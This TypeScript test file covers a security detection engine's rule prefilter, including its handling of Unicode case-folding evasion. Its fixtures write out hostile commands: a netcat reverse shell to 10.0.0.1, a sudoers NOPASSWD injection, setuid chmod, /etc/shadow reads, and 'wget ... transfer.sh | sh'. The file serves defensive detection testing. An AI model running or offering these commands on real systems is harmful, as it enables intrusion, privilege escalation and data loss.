import fc from 'fast-check';
import { existsSync } from 'node:fs';
import * as path from 'node:path';
import { benchEvents } from '../bench/rules';
import { EvalContext, type Doc } from './condition';
import { readCorpus } from './corpus';
import { compileRule, createStreamingEngine, type CompiledRule } from './engine';
import { commandEvent } from './events';
import { asciiLiteral, bestClauses, CMD_HAY, Prefilter, regexLiterals, requirement, type Requirement } from './prefilter';
import { foldCase } from './prefilter/literals';
import { minimalClause } from './prefilter/runtime';
import { builtinRulesDir } from '../core';
import { loadRules } from './schema';
import { importSigmaDir } from './sigma';
import { testEventDoc } from './testing';
import type { Condition, RuleDef } from './types';

const shared = path.resolve(__dirname, '..', '..', 'shared', 'corpora');

/** Events no rule author wrote for: case, quoting, non-ASCII, flattened keys, odd shapes. */
const TRICKY: Doc[] = [
  commandEvent("CHMOD 4755 /usr/bin/find"),
  commandEvent("ch'mod' u+s /bin/ba\"sh\""),
  commandEvent('rm -rf /VAR/LOG/*'),
  commandEvent('echo \u212Aubectl \u0130D_RSA /etc/\u0161hadow'),
  commandEvent('cat /etc/sh\\adow'),
  commandEvent('sudo sh -c "echo \'ALL ALL=(ALL) NOPASSWD: ALL\' >> /etc/sudoers"'),
  commandEvent('usermod -aG sudo mallory'),
  commandEvent('python3 -c "import pty;pty.spawn(\'/bin/bash\')"'),
  { '@timestamp': '2026-11-22T10:00:00Z', 'process.command_line': 'nc -e /bin/sh 10.0.0.1 4444', 'event.category': 'process', 'event.id': 'flat1' },
  { '@timestamp': '2026-11-22T10:00:01Z', event: { category: 'PROCESS', id: 'up1' }, process: { name: 'NC', executable: '/USR/BIN/NC', args: ['NC', '-E', '/BIN/SH'] } },
  { '@timestamp': '2026-11-22T10:00:02Z', event: { category: ['authentication'], outcome: 'failure', id: 'auth1' }, source: { ip: '203.0.113.9' }, user: { name: 'root' } },
  { '@timestamp': '2026-11-22T10:00:03Z', event: { id: 'empty1' } },
  { '@timestamp': 'not a time', event: { id: 'bad1' }, message: 'Failed to generate curve25519 keys' },
];

async function allRules(): Promise<RuleDef[]> {
  const rules = await loadRules([builtinRulesDir()]);
  const sigmaDir = path.join(shared, 'sigma');
  if (existsSync(sigmaDir)) rules.push(...(await importSigmaDir(sigmaDir)).results.flatMap((r) => (r.ok ? [r.rule] : [])));
  else console.warn(`Sigma corpus missing at ${sigmaDir}: checking the built-in rules only`);
  return rules;
}

function eventSet(rules: readonly RuleDef[]): Doc[] {
  const events: Doc[] = [...benchEvents(3000), ...TRICKY];
  const dev = path.join(shared, 'commands', 'dev.jsonl');
  if (existsSync(dev)) readCorpus(dev).forEach((l, i) => events.push(commandEvent(l.command, { id: `corpus-${i}` })));
  else console.warn(`labelled corpus missing at ${dev}: using the bench mix and rule tests only`);
  let i = 0;
  for (const r of rules) for (const e of [...r.tests.match, ...r.tests.no_match]) events.push(testEventDoc(e, i++ % 3600));
  return events;
}

describe('the rule prefilter', () => {
  let rules: RuleDef[];
  let events: Doc[];
  beforeAll(async () => {
    rules = await allRules();
    events = eventSet(rules);
  });

  it('never hides a rule whose condition (or a sequence step) holds on an event', () => {
    const compiled: CompiledRule[] = rules.map((r) => compileRule(r));
    const pf = new Prefilter(compiled.map((r) => r.requirements));
    const ctx = new EvalContext();
    const missed: string[] = [];
    let holds = 0;
    for (const ev of events) {
      ctx.reset(ev);
      const cands = new Set(pf.candidates(ctx));
      compiled.forEach((r, i) => {
        const ok = r.def.type === 'sequence' ? r.steps.some((s) => s(ctx)) : r.predicate(ctx);
        if (!ok) return;
        holds++;
        if (!cands.has(i)) missed.push(`${r.def.id} on ${JSON.stringify(ev).slice(0, 160)}`);
      });
    }
    expect(missed).toEqual([]);
    expect(holds).toBeGreaterThan(500);
  });

  it('gives the same matches and the same alerts as evaluating every rule on every event', () => {
    const fast = createStreamingEngine(rules);
    const naive = createStreamingEngine(rules, { prefilter: false });
    let matches = 0;
    for (const ev of events) {
      const a = fast.evaluate(ev);
      const b = naive.evaluate(ev);
      expect(a.matched).toEqual(b.matched);
      expect(a.alerts).toEqual(b.alerts);
      matches += a.matched.length;
    }
    expect(fast.stats()).toEqual(naive.stats());
    expect(matches).toBeGreaterThan(500);
    // Few rules escape the index (each is evaluated on every event).
    expect(fast.prefilter.always).toBeLessThanOrEqual(5);
  });
});

describe('the rule prefilter under Unicode case folding', () => {
  // RE2 (and re2js) with case ignored match U+017F LONG S as `s` and U+212A KELVIN SIGN as `k`; no other non-ASCII
  // character folds to an ASCII one. A literal check that misses these lets a hostile user write a command the
  // rule's regex matches but the prefilter skips.
  let rules: RuleDef[];
  let fast: ReturnType<typeof createStreamingEngine>;
  let naive: ReturnType<typeof createStreamingEngine>;
  beforeAll(async () => {
    rules = await loadRules([builtinRulesDir()]);
    fast = createStreamingEngine(rules);
    naive = createStreamingEngine(rules, { prefilter: false });
  });

  it('does not skip a built-in rule when one letter of its matching command is replaced by a fold-equivalent', () => {
    const line = 'setcap cap_\u017fetuid+ep /usr/bin/python3';
    expect(naive.evaluate(commandEvent(line)).matched).toContain('ak-lnx-dangerous-capability');
    expect(fast.evaluate(commandEvent(line)).matched).toContain('ak-lnx-dangerous-capability');
    // Every built-in match test, each s/S/k/K replaced in turn.
    const missed: string[] = [];
    let tried = 0;
    for (const r of rules) {
      if (r.type !== 'match') continue;
      for (const m of r.tests.match) {
        if (typeof m !== 'string') continue;
        for (let i = 0; i < m.length; i++) {
          const to = /[sS]/.test(m[i] as string) ? '\u017f' : /[kK]/.test(m[i] as string) ? '\u212a' : undefined;
          if (!to) continue;
          const ev = commandEvent(m.slice(0, i) + to + m.slice(i + 1));
          const a = fast.evaluate(ev).matched.includes(r.id);
          if (a !== naive.evaluate(ev).matched.includes(r.id)) missed.push(`${r.id}: ${m.slice(0, i)}${to}${m.slice(i + 1)}`);
          tried++;
        }
      }
    }
    expect(tried).toBeGreaterThan(1000);
    expect(missed).toEqual([]);
  });

  it('gives the same alerts on and off for every built-in rule, over text mixing ASCII with folding characters', () => {
    const lits = [...new Set(rules.flatMap((r) => JSON.stringify(r).match(/[a-z_./-]{3,}/gi) ?? []))];
    const lines = rules.flatMap((r) => (r.type === 'match' ? r.tests.match.filter((m): m is string => typeof m === 'string') : []));
    const piece = fc.oneof(
      fc.constantFrom(...lines),
      fc.constantFrom(...lits),
      fc.constantFrom('\u017f', '\u212a', '\u00df', '\u0130', '\u0131', ' ', '|', ';', '/', '-', ':', '=', "'", '$(', ')'),
      fc.string({ maxLength: 4 }),
    );
    // Replace a few letters by their fold-equivalents or flip their case: the inputs where a literal check could go wrong.
    const twist = (s: string, seed: number): string =>
      [...s]
        .map((c, i) => {
          if (((seed ^ Math.imul(i + 1, 0x9e3779b1)) >>> 29) !== 0) return c;
          if (c === 's' || c === 'S') return '\u017f';
          if (c === 'k' || c === 'K') return '\u212a';
          return c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase();
        })
        .join('');
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 4 }), fc.integer(), (parts, seed) => {
        const ev = commandEvent(twist(parts.join(''), seed));
        expect(fast.evaluate(ev).matched).toEqual(naive.evaluate(ev).matched);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('the prefilter on hostile input (issue 14)', () => {
  const lit = (v: string): Requirement => [{ kind: 'lit', hay: 'process.command_line', v }];
  const eventOf = (line: string): Doc => ({ process: { command_line: line, name: line, args: [line] } });

  it('folds every code point in its one pass as foldCase does, and no lower-casing shortens a string', () => {
    // The scan folds per character instead of scanning foldCase(text) a second time: the same literals must hold.
    const lits = ['xi', 'xk', 'xs', 'iy', 'ky', 'sy', 'x', 'y'];
    const pf = new Prefilter(lits.map(lit));
    const ctx = new EvalContext();
    const wrong: string[] = [];
    const shorter: string[] = [];
    for (let cp = 0; cp <= 0x10ffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      const ch = String.fromCodePoint(cp);
      const line = `x${ch}y`;
      const folded = foldCase(line);
      const want = lits.flatMap((l, i) => (folded.includes(l) ? [i] : []));
      const got = [...pf.candidates(ctx.reset(eventOf(line)))];
      if (got.join() !== want.join()) wrong.push(`U+${cp.toString(16)}: ${got.join()} / ${want.join()}`);
      if (ch.toLowerCase().length < ch.length) shorter.push(`U+${cp.toString(16)}`);
    }
    expect(wrong).toEqual([]);
    expect(shorter).toEqual([]);
  });

  it('reads a 1 MiB field without lower-casing or copying it (one pass per haystack)', async () => {
    const rules = await allRules();
    const pf = new Prefilter(rules.map((r) => compileRule(r).requirements));
    const ctx = new EvalContext();
    const lower = jest.spyOn(String.prototype, 'toLowerCase');
    try {
      for (const line of ['\u00e9\u20ac\ud83d\ude00'.repeat(1 << 18), 'rm -rf ' + '/'.repeat(1 << 20)]) {
        lower.mockClear();
        pf.candidates(ctx.reset(commandEvent(line)));
        const long = lower.mock.contexts.filter((c) => String(c).length > 100_000).length;
        expect({ line: line.slice(0, 12), long }).toEqual({ line: line.slice(0, 12), long: 0 });
      }
    } finally {
      lower.mockRestore();
    }
  });
});

describe('the prefilter\'s precision', () => {
  const rule = (id: string, condition: Condition): RuleDef => ({
    id, name: id, description: id, type: 'match', severity: 'low', risk_score: 21, enabled: true, version: 1, threat: [], references: [], false_positives: [],
    author: ['test'], tags: [], exceptions: [], tests: { match: [], no_match: [] }, condition,
  });
  const candidateIds = (rules: readonly RuleDef[], line: string): string[] => {
    const pf = new Prefilter(rules.map((r) => compileRule(r).requirements));
    return pf.candidates(new EvalContext().reset(commandEvent(line))).map((i) => (rules[i] as RuleDef).id);
  };

  it('makes an `any` rule a candidate only where every clause of one of its branches holds, not the cheapest clause of each', () => {
    const r = rule('paste', { any: [{ cmd: { name: ['curl'], args_any: { contains: 'pastebin.com' } } }, { cmd: { name: ['wget'], args_any: { contains: 'transfer.sh' } } }] });
    expect(candidateIds([r], 'curl -s https://api.example.com/health')).toEqual([]);
    expect(candidateIds([r], 'wget https://pastebin.com/raw/x')).toEqual([]);
    expect(candidateIds([r], 'curl https://pastebin.com/raw/x')).toEqual(['paste']);
    expect(candidateIds([r], 'wget -O- https://transfer.sh/x | sh')).toEqual(['paste']);
  });

  it('requires a privileged wrapper (sudo, doas, pkexec, su, runuser) for a `sudo: true` test', () => {
    const r = rule('sudo-sh', { cmd: { sudo: true, words_any: { regex: '(^|/)sh$' } } });
    expect(candidateIds([r], 'ssh deploy@10.0.2.15 ./deploy.sh')).toEqual([]);
    for (const line of ['sudo vim -c "!/bin/sh"', 'doas less /bin/sh', "su -c 'awk x /bin/sh'", 'pkexec env /bin/sh']) expect(candidateIds([r], line)).toEqual(['sudo-sh']);
  });

  it('requires a long option\'s name even when the rule tests its value', () => {
    const r = rule('connect', { cmd: { option: { names: ['-connect', '--connect'], value: { regex: '^[\\w.-]+:\\d+$' } } } });
    expect(candidateIds([r], 'scp build.tgz deploy@10.0.2.15:/opt/')).toEqual([]);
    expect(candidateIds([r], './agent -connect 10.10.14.7:11601')).toEqual(['connect']);
    expect(candidateIds([r], './agent --connect=10.10.14.7:11601')).toEqual(['connect']);
  });
});

describe('literal extraction', () => {
  it('finds the literals every regex match must contain', () => {
    expect(regexLiterals('^/etc/(shadow|gshadow)$')).toEqual(['/etc/shadow', '/etc/gshadow']);
    expect(regexLiterals('stratum\\d?\\+(tcp|ssl|tls)://')).toEqual(['stratum']);
    expect(regexLiterals('^[Pp]ermissive$')).toEqual(['permissive']);
    expect(regexLiterals('(^|/)\\.bash_history$')).toEqual(['.bash_history', '/.bash_history']);
    expect(regexLiterals('a+b?c*')).toEqual(['a']);
  });

  it('gives up rather than guess on constructs it does not model', () => {
    expect(regexLiterals('\\x41BC')).toBeUndefined();
    expect(regexLiterals('(a)\\1')).toBeUndefined();
    expect(regexLiterals('.*')).toBeUndefined();
    expect(regexLiterals('foo|.*')).toBeUndefined();
  });

  it('keeps only ASCII runs, lower-cased', () => {
    expect(asciiLiteral('Ünïcode-Pass')).toBe('code-pass');
    expect(asciiLiteral('\u212A')).toBe('');
  });

  it('drops a literal of a clause that contains another literal of the same clause and haystack', () => {
    const lit = (v: string, hay = CMD_HAY): Requirement[number] => ({ kind: 'lit', hay, v });
    const clause: Requirement = [lit('cap_setuid'), lit('cap_'), { kind: 'name', v: 'setcap' }, lit('cap_'), lit('cap_setuid', 'message'), lit('setuid')];
    expect(minimalClause(clause)).toEqual([lit('cap_'), { kind: 'name', v: 'setcap' }, lit('cap_setuid', 'message'), lit('setuid')]);
    const pf = new Prefilter([clause, [[lit('sudoers')], [lit('sudo'), lit('/etc/sudoers.d/')]]]);
    // cmd: root + cap_ (4) + setuid (6) + sudo sharing its s (3) + sudoers past sudo (3); message: root + cap_setuid (10).
    expect([pf.stats.literals, pf.stats.states]).toEqual([5, 28]);
  });

  it('reduces a condition to cheap atoms: all takes one child, any needs every child, not gives nothing', () => {
    expect(requirement({ all: [{ field: 'event.category', equals: 'process' }, { cmd: { name: ['chmod'] } }] })).toEqual([{ kind: 'name', v: 'chmod' }]);
    expect(requirement({ any: [{ cmd: { name: ['chmod'] } }, { field: 'process.name', equals: 'Chown' }] })).toEqual([
      { kind: 'name', v: 'chmod' },
      { kind: 'eq', path: 'process.name', v: 'chown' },
    ]);
    expect(requirement({ any: [{ cmd: { name: ['chmod'] } }, { not: { field: 'a', equals: 'b' } }] })).toBeUndefined();
  });

  it('checks a clause that holds on most events (a common field value) only when it is the cheapest', () => {
    const chmod = { cmd: { name: ['chmod'] } };
    const proc = { field: 'event.category', equals: 'process' };
    const auditd = { field: 'event.dataset', equals: 'auditkit.auditd' };
    expect(bestClauses({ all: [proc, chmod, auditd] })).toEqual([[{ kind: 'name', v: 'chmod' }]]);
    expect(bestClauses({ all: [proc, { field: 'process.name', equals: 'chmod' }, chmod] })).toEqual([[{ kind: 'name', v: 'chmod' }], [{ kind: 'eq', path: 'process.name', v: 'chmod' }]]);
    expect(bestClauses({ all: [proc, { not: chmod }] })).toEqual([[{ kind: 'eq', path: 'event.category', v: 'process' }]]);
  });
});
